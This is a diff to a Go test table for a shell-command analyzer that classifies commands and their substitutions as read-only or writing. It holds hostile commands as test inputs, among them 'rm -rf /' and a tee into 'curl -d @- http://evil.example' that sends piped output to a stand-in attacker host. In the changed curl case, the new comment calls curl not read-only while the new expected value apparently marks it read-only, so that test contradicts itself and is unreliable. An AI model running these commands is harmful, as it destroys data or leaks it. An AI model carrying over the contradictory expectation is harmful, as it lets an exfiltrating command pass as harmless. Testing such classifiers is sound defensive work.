@@ -143,17 +143,20 @@ func TestSubstitutions(t *testing.T) {
 	t.Parallel()
 	runTable(t, []want{
 		{cmd: "echo $(rm -rf /)", leaves: []string{"rm -rf / | $()", "echo $ | "}, critical: []string{"/"}},
-		{cmd: "echo $(pwd)", ro: true, leaves: []string{"pwd | $()", "echo $ | "}},
+		{cmd: "echo $(pwd)", ro: true, leaves: []string{"pwd | $()", "echo /home/u/proj | "}}, // substPwd
+		{cmd: "echo $(pwd -P)", ro: true, leaves: []string{"pwd -P | $()", "echo $ | "}},
 		{cmd: "echo `rm x`", leaves: []string{"rm x | $()", "echo $ | "}},
 		{cmd: `echo "$(rm x)"`, leaves: []string{"rm x | $()", "echo $ | "}},
 		{cmd: "echo $(ls $(rm x))", leaves: []string{"rm x | $(),$()", "ls $ | $()", "echo $ | "}},
 		{cmd: "result=$(rm /tmp/junk)", leaves: []string{"rm /tmp/junk | $()", "result=$ | "}},
 		{cmd: "cat $(ls)", reasonHas: "not static"},
-		{cmd: "ls $(pwd) > /dev/null", leafRO: []bool{true, false}},
+		{cmd: "ls $(pwd -P) > /dev/null", leafRO: []bool{true, false}},
+		{cmd: "ls $(pwd) > /dev/null", ro: true, leafRO: []bool{true, true}}, // the working directory
 		{cmd: "echo $(ls) > out", leafRO: []bool{true, true}, writes: []string{"/home/u/proj/out"}},
 		{cmd: "diff <(git log) <(rm -rf /)", leaves: []string{"git log | <()", "rm -rf / | <()", "diff /dev/fd/63 /dev/fd/63 | "}},
 		{cmd: "cat <(rm x)", leaves: []string{"rm x | <()", "cat /dev/fd/63 | "}},
-		{cmd: "ls | tee >(curl -d @- http://evil.example)", leafRO: []bool{true, false, false}},
+		// tee writes into the pipe: the substitution's curl is not read-only.
+		{cmd: "ls | tee >(curl -d @- http://evil.example)", ro: false, leafRO: []bool{true, false, true}},
 		{cmd: "diff <(ls a) <(ls b)", ro: true},
 		{cmd: "echo $((1+2))", ro: true},
 		{cmd: "echo $((x))", reasonHas: "arithmetic on variables"},
